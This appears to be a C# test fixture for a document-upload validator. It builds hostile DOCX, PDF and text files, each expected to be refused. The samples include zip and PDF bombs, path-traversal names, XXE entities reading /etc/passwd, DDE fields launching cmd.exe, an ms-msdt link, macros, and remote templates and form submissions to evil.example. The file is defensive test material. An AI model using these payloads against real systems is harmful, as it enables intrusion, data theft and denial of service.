using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using Portal.Core;
using static Portal.Core.DocumentProblem;

namespace Portal.Tests.Core;

/// <summary>Files made to harm, to deceive or to break, each with the reason it shall be refused for.</summary>
internal static class HostileFiles
{
    private static readonly string Body = TestDocx.P("正文");

    public static IReadOnlyDictionary<string, (Func<byte[]> Make, string Name, DocumentProblem Problem)> All { get; } = new Dictionary<string, (Func<byte[]>, string, DocumentProblem)>
    {
        ["nothing"] = (() => [], "a.docx", Empty),
        ["blank text"] = (() => " \r\n\t"u8.ToArray(), "a.txt", Empty),
        ["too large"] = (() => new byte[DocumentInspector.MaxBytes + 1], "a.txt", TooLarge),
        ["program"] = (() => [0x7F, .. "ELF"u8, 1, 2, 3, 0, 0, 0], "a.docx", UnknownType),
        ["program as text"] = (() => [.. "MZ"u8, 0x90, 0, 3, 0, 0, 0], "a.txt", UnknownType),
        ["picture"] = (() => TestPictures.Png(4, 4), "a.pdf", UnknownType),
        ["old Word"] = (() => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]], "a.docx", UnknownType),
        ["with a password"] = (() => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600], .. Encoding.Unicode.GetBytes("EncryptedPackage")], "a.docx", Encrypted),
        ["pdf called docx"] = (() => TestPdf.With(), "a.docx", WrongExtension),
        ["docx called pdf"] = (() => TestDocx.With(Body).ToBytes(), "a.pdf", WrongExtension),
        ["docx called docm"] = (() => TestDocx.With(Body).ToBytes(), "a.docm", WrongExtension),
        ["text called exe"] = (() => "正文"u8.ToArray(), "a.exe", WrongExtension),
        ["text without ending"] = (() => "正文"u8.ToArray(), "a", WrongExtension),
        ["zip of anything"] = (() => TestDocx.Zip(("a.txt", "x"u8.ToArray())), "a.docx", UnknownType),
        ["workbook"] = (() => TestDocx.With(Body).As("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml").ToBytes(), "a.docx", WrongExtension),
        ["cut off zip"] = (() => TestDocx.With(Body).ToBytes()[..^30], "a.docx", Damaged),
        ["zip with a tail"] = (() => [.. TestDocx.With(Body).ToBytes(), 1, 2, 3], "a.docx", Damaged),
        ["broken markup"] = (() => TestDocx.With("<w:p>").ToBytes(), "a.docx", Damaged),
        ["no text part"] = (() => TestDocx.Zip(("[Content_Types].xml", "<Types/>"u8.ToArray()), ("_rels/.rels", "<Relationships/>"u8.ToArray())), "a.docx", Damaged),
        // bombs
        ["bomb of zeroes"] = (() => Docx(("word/media/a.bin", new byte[60 * 1024 * 1024])), "a.docx", Bomb),
        ["bomb of text"] = (() => TestDocx.With("<w:p/>" + new string(' ', 20 * 1024 * 1024)).ToBytes(), "a.docx", Bomb),
        ["bomb that lies of its size"] = (() => LyingBomb(), "a.docx", Damaged),
        ["bomb in many parts"] = (() => Docx([.. Enumerable.Range(0, 90).Select(i => ($"word/media/{i}.bin", new byte[1024 * 1000]))]), "a.docx", Bomb),
        ["ten thousand parts"] = (() => Docx([.. Enumerable.Range(0, 10_000).Select(i => ($"word/{i}.xml", "<a/>"u8.ToArray()))]), "a.docx", Bomb),
        ["zips within zips"] = (() => Docx(("word/media/a.bin", TestDocx.Zip(("b.zip", TestDocx.Zip(("c.zip", TestDocx.Zip(("d", new byte[1000])))))))), "a.docx", EmbeddedFile),
        ["one file under many names"] = (() => Overlapping(), "a.docx", Bomb),
        // names
        ["way out"] = (() => Docx(("../../etc/cron.d/x", "x"u8.ToArray())), "a.docx", UnsafePaths),
        ["way out in the middle"] = (() => Docx(("word/../../x", "x"u8.ToArray())), "a.docx", UnsafePaths),
        ["absolute name"] = (() => Docx(("/etc/passwd", "x"u8.ToArray())), "a.docx", UnsafePaths),
        ["drive"] = (() => Docx(("C:/x", "x"u8.ToArray())), "a.docx", UnsafePaths),
        ["backslashes"] = (() => Docx(("word\\..\\..\\x", "x"u8.ToArray())), "a.docx", UnsafePaths),
        ["the same name twice"] = (() => Docx(("WORD/Document.xml", "<a/>"u8.ToArray())), "a.docx", UnsafePaths),
        ["endless name"] = (() => Docx(("word/" + new string('a', 3000), "x"u8.ToArray())), "a.docx", UnsafePaths),
        ["control character in a name"] = (() => Docx(("word/a\nb", "x"u8.ToArray())), "a.docx", UnsafePaths),
        ["link out of the package"] = (() => TestDocx.With(Body).Link("x", "image", "../../../etc/passwd").ToBytes(), "a.docx", UnsafePaths),
        // markup
        ["external entity"] = (() => Entity("<!ENTITY x SYSTEM \"file:///etc/passwd\">"), "a.docx", HostileMarkup),
        ["external entity in UTF-16"] = (() => Docx(("word/styles.xml", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>")])), "a.docx", HostileMarkup),
        ["external subset"] = (() => Docx(("word/styles.xml", "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>"u8.ToArray())), "a.docx", HostileMarkup),
        ["billion laughs"] = (() => Entity(string.Concat(Enumerable.Range(1, 10).Select(i => $"<!ENTITY x{i} \"{string.Concat(Enumerable.Repeat($"&x{i - 1};", 10))}\">")) + "<!ENTITY x0 \"lol\"><!ENTITY x \"&x10;\">"), "a.docx", HostileMarkup),
        ["entity in the list of types"] = (() => TestDocx.Zip(("[Content_Types].xml", "<!DOCTYPE a [<!ENTITY x 'y'>]><Types/>"u8.ToArray())), "a.docx", HostileMarkup),
        ["entity in relations"] = (() => Docx(("word/_rels/document.xml.rels", "<!DOCTYPE a [<!ENTITY x 'y'>]><Relationships/>"u8.ToArray())), "a.docx", HostileMarkup),
        ["depth"] = (() => TestDocx.With(string.Concat(Enumerable.Repeat("<w:sdt>", 20_000)) + string.Concat(Enumerable.Repeat("</w:sdt>", 20_000))).ToBytes(), "a.docx", HostileMarkup),
        // programs
        ["macro document"] = (() => TestDocx.With(Body).As("application/vnd.ms-word.document.macroEnabled.main+xml").ToBytes(), "a.docx", ActiveContent),
        ["macros"] = (() => TestDocx.With(Body).Link("m", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin").Part("word/vbaProject.bin", [1, 2, 3]).ToBytes(), "a.docx", ActiveContent),
        ["macros that nothing links to"] = (() => TestDocx.With(Body).Part("word/x.bin", [1], "application/vnd.ms-office.vbaProject").ToBytes(), "a.docx", ActiveContent),
        ["ActiveX"] = (() => TestDocx.With(Body).Linked("control", "activeX/activeX1.xml", "<a/>", "application/vnd.ms-office.activeX+xml").ToBytes(), "a.docx", ActiveContent),
        ["macro button"] = (() => TestDocx.With("<w:p><w:fldSimple w:instr=\" MACROBUTTON Evil 点我 \"/></w:p>").ToBytes(), "a.docx", ActiveContent),
        // files within
        ["OLE object"] = (() => TestDocx.With(Body).Link("o", "oleObject", "embeddings/o.bin").Part("word/embeddings/o.bin", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]).ToBytes(), "a.docx", EmbeddedFile),
        ["OLE object that nothing links to"] = (() => Docx(("word/media/o.bin", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0])), "a.docx", EmbeddedFile),
        ["program within"] = (() => Docx(("word/media/o.bin", [.. "MZ"u8, 0x90, 0])), "a.docx", EmbeddedFile),
        ["foreign chunk"] = (() => TestDocx.With("<w:altChunk r:id=\"c\"/>").Link("c", "aFChunk", "c.html").Part("word/c.html", "<script/>").ToBytes(), "a.docx", EmbeddedFile),
        ["workbook in the text"] = (() => TestDocx.With(Body).Link("p", "package", "embeddings/a.xlsx").Part("word/embeddings/a.xlsx", TestDocx.Zip(("a", [1])), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet").ToBytes(), "a.docx", EmbeddedFile),
        // things to fetch
        ["template from elsewhere"] = (() => TestDocx.With(Body).Link("t", "attachedTemplate", "http://evil.example/t.dotm", true).ToBytes(), "a.docx", ExternalContent),
        ["template from a share"] = (() => TestDocx.With(Body).Link("t", "attachedTemplate", @"file:///\\evil.example\t.dotm", true).ToBytes(), "a.docx", ExternalContent),
        ["picture from elsewhere"] = (() => TestDocx.With(Body).Link("i", "image", "https://evil.example/pixel.png", true).ToBytes(), "a.docx", ExternalContent),
        ["frame"] = (() => TestDocx.With(Body).Link("f", "frame", "https://evil.example/", true).ToBytes(), "a.docx", ExternalContent),
        ["OLE object from elsewhere"] = (() => TestDocx.With(Body).Link("o", "oleObject", "mhtml:https://evil.example/!x-usc:https://evil.example/", true).ToBytes(), "a.docx", ExternalContent),
        ["part of another document"] = (() => TestDocx.With(Body).Link("s", "subDocument", "https://evil.example/s.docx", true).ToBytes(), "a.docx", ExternalContent),
        ["script link"] = (() => TestDocx.With(Body).Link("h", "hyperlink", "javascript:alert(1)", true).ToBytes(), "a.docx", ExternalContent),
        ["link to a share"] = (() => TestDocx.With(Body).Link("h", "hyperlink", @"\\evil.example\a", true).ToBytes(), "a.docx", ExternalContent),
        ["link to a host's files"] = (() => TestDocx.With(Body).Link("h", "hyperlink", "file://evil.example/a", true).ToBytes(), "a.docx", ExternalContent),
        ["link that starts a program"] = (() => TestDocx.With(Body).Link("h", "hyperlink", "ms-msdt:/id PCWDiagnostic", true).ToBytes(), "a.docx", ExternalContent),
        ["DDE"] = (() => TestDocx.With("<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \"/></w:p>").ToBytes(), "a.docx", ExternalContent),
        ["DDE in pieces"] = (() => TestDocx.With("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>").ToBytes(), "a.docx", ExternalContent),
        ["picture field from a share"] = (() => TestDocx.With("<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;\\\\\\\\evil.example\\\\a.png&quot; \"/></w:p>").ToBytes(), "a.docx", ExternalContent),
        // PDF
        ["cut off pdf"] = (() => TestPdf.With()[..200], "a.pdf", Damaged),
        ["pdf without a root"] = (() => Encoding.Latin1.GetBytes("%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<</Size 1>>\n%%EOF"), "a.pdf", Damaged),
        ["pdf without pages"] = (() => Encoding.Latin1.GetBytes("%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF"), "a.pdf", Damaged),
        ["pdf whose pages go in circles"] = (() => Encoding.Latin1.GetBytes("%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Kids[2 0 R 2 0 R 3 0 R]>>\nendobj\n3 0 obj 3 0 R endobj\ntrailer\n<</Root 1 0 R>>\n%%EOF"), "a.pdf", Damaged),
        ["pdf with a password"] = (() => TestPdf.With(trailer: "/Encrypt 9 0 R"), "a.pdf", Encrypted),
        ["pdf script on opening"] = (() => TestPdf.With("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "a.pdf", ActiveContent),
        ["pdf script under a disguised name"] = (() => TestPdf.With("/OpenAction<</S/J#61vaScript/JS(app.alert\\(1\\))>>"), "a.pdf", ActiveContent),
        ["pdf script in the names"] = (() => TestPdf.With("/Names<</JavaScript<</Names[(a) 10 0 R]>>>>", objects: "<</S/JavaScript/JS(1)>>"), "a.pdf", ActiveContent),
        ["pdf script in an object stream"] = (() => TestPdf.With(objects: TestPdf.ObjectStream(50, "<</S/JavaScript/JS(1)>>")), "a.pdf", ActiveContent),
        ["pdf script whose kind stands elsewhere"] = (() => TestPdf.With(objects: ["<</S 11 0 R/JS(1)>>", "/JavaScript"]), "a.pdf", ActiveContent),
        ["pdf that starts programs"] = (() => TestPdf.With("/OpenAction<</S/Launch/F(cmd.exe)>>"), "a.pdf", ActiveContent),
        ["pdf that sends forms"] = (() => TestPdf.With(objects: "<</S/SubmitForm/F(https://evil.example/)>>"), "a.pdf", ActiveContent),
        ["pdf with XFA"] = (() => TestPdf.With("/AcroForm<</XFA[]/Fields[]>>"), "a.pdf", ActiveContent),
        ["pdf with rich media"] = (() => TestPdf.With(page: "/Annots[<</Subtype/RichMedia/Rect[0 0 1 1]>>]"), "a.pdf", ActiveContent),
        ["pdf with an attachment"] = (() => TestPdf.With("/Names<</EmbeddedFiles<</Names[(a) 10 0 R]>>>>", objects: "<</Type/Filespec/EF<<>>>>"), "a.pdf", EmbeddedFile),
        ["pdf with an attachment on the page"] = (() => TestPdf.With(page: "/Annots[<</Subtype/FileAttachment/Rect[0 0 1 1]>>]"), "a.pdf", EmbeddedFile),
        ["pdf that opens another"] = (() => TestPdf.With("/OpenAction<</S/GoToR/F(//evil.example/a.pdf)>>"), "a.pdf", ExternalContent),
        ["pdf with a stream in another file"] = (() => TestPdf.With(objects: "<</Length 0/F(//evil.example/a)>>\nstream\n\nendstream"), "a.pdf", ExternalContent),
        ["pdf with a script link"] = (() => TestPdf.With(page: "/Annots[<</Subtype/Link/Rect[0 0 1 1]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]"), "a.pdf", ExternalContent),
        ["pdf bomb"] = (() => TestPdf.With(objects: TestPdf.Stream("/Type/ObjStm/N 1/First 4", new byte[100 * 1024 * 1024])), "a.pdf", Bomb),
        ["pdf bomb in many streams"] = (() => TestPdf.With(objects: [.. Enumerable.Repeat(TestPdf.Stream("/Type/ObjStm/N 0/First 0", new byte[8 * 1024 * 1024]), 10)]), "a.pdf", Bomb),
        ["pdf bomb twice deflated"] = (() => TestPdf.With(objects: "<</Type/ObjStm/N 1/First 0/Filter[/FlateDecode/FlateDecode]/Length 3>>\nstream\nabc\nendstream"), "a.pdf", HostileMarkup),
        ["pdf depth"] = (() => TestPdf.With(objects: new string('[', 1_000_000)), "a.pdf", HostileMarkup),
        ["pdf depth in an object stream"] = (() => TestPdf.With(objects: TestPdf.ObjectStream(50, string.Concat(Enumerable.Repeat("<</A", 100_000)))), "a.pdf", HostileMarkup),
        ["pdf of values"] = (() => TestPdf.With(objects: "[" + string.Concat(Enumerable.Repeat("0 ", 5_000_000)) + "]"), "a.pdf", HostileMarkup),
        ["pdf of objects"] = (() => TestPdf.With(objects: [.. Enumerable.Repeat("0", 250_000)]), "a.pdf", Bomb),
        ["pdf of a thousand pages"] = (() => TestPdf.With(objects: "<<>>", catalog: "/Pages 10 0 R").AsPages(1000), "a.pdf", Bomb),
        ["pdf that never ends a stream"] = (() => TestPdf.With(objects: "<</Length 99999999>>\nstream\nabc"), "a.pdf", Damaged),
        // text
        ["text with a null"] = (() => "正文\0"u8.ToArray(), "a.txt", UnknownType),
        ["text with controls"] = (() => "正文\u001B[31m"u8.ToArray(), "a.md", UnknownType),
        ["text in no encoding"] = (() => [0x41, 0xFF, 0x80, 0xFF, 0x42], "a.txt", UnknownType),
        ["half of UTF-16"] = (() => [0xFF, 0xFE, 0x41], "a.txt", UnknownType),
    };

    private static byte[] AsPages(this byte[] pdf, int number)
    {
        var kids = string.Concat(Enumerable.Range(0, number).Select(i => $"{1000 + i} 0 R "));
        var pages = string.Concat(Enumerable.Range(0, number).Select(i => $"{1000 + i} 0 obj\n<</Type/Page>>\nendobj\n"));
        return Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(pdf).Replace("10 0 obj\n<<>>\nendobj\n", $"10 0 obj\n<</Kids[{kids}]>>\nendobj\n{pages}", StringComparison.Ordinal));
    }

    private static byte[] Docx(params (string Name, byte[] Content)[] more)
    {
        var docx = TestDocx.With(Body);
        foreach (var (name, content) in more)
            docx.Part(name, content);
        return docx.ToBytes();
    }

    private static byte[] Entity(string declarations) => Docx(("word/styles.xml", Encoding.UTF8.GetBytes($"<?xml version=\"1.0\"?><!DOCTYPE a [{declarations}]><a>&x;</a>")));

    // declares ten bytes in the list of files and unfolds to ten million
    private static byte[] LyingBomb()
    {
        var bytes = Docx(("word/media/a.bin", new byte[10_000_000]));
        for (var at = 0; (at = bytes.AsSpan(at).IndexOf("PK\x01\x02"u8) is var next && next >= 0 ? at + next : -1) >= 0; at += 4)
        {
            if (BinaryPrimitives.ReadUInt32LittleEndian(bytes.AsSpan(at + 24)) == 10_000_000)
                BinaryPrimitives.WriteUInt32LittleEndian(bytes.AsSpan(at + 24), 10);
        }

        return bytes;
    }

    // many entries of the list lead to the same deflated bytes, each small, together too much
    private static byte[] Overlapping()
    {
        var bytes = Docx([.. Enumerable.Range(0, 100).Select(i => ($"word/media/{i:D3}.bin", i == 0 ? new byte[1_000_000] : []))]);
        var first = -1;
        var sizes = new byte[12];
        for (var at = 0; (at = bytes.AsSpan(at).IndexOf("PK\x01\x02"u8) is var next && next >= 0 ? at + next : -1) >= 0; at += 4)
        {
            var entry = bytes.AsSpan(at);
            if (!Encoding.Latin1.GetString(entry.Slice(46, 11)).StartsWith("word/media/", StringComparison.Ordinal))
                continue;
            if (first < 0)
            {
                first = BinaryPrimitives.ReadInt32LittleEndian(entry[42..]);
                entry.Slice(16, 12).CopyTo(sizes);
            }

            sizes.CopyTo(entry[16..]);
            BinaryPrimitives.WriteInt32LittleEndian(entry[42..], first);
            BinaryPrimitives.WriteUInt16LittleEndian(entry[10..], 8);
        }

        return bytes;
    }
}
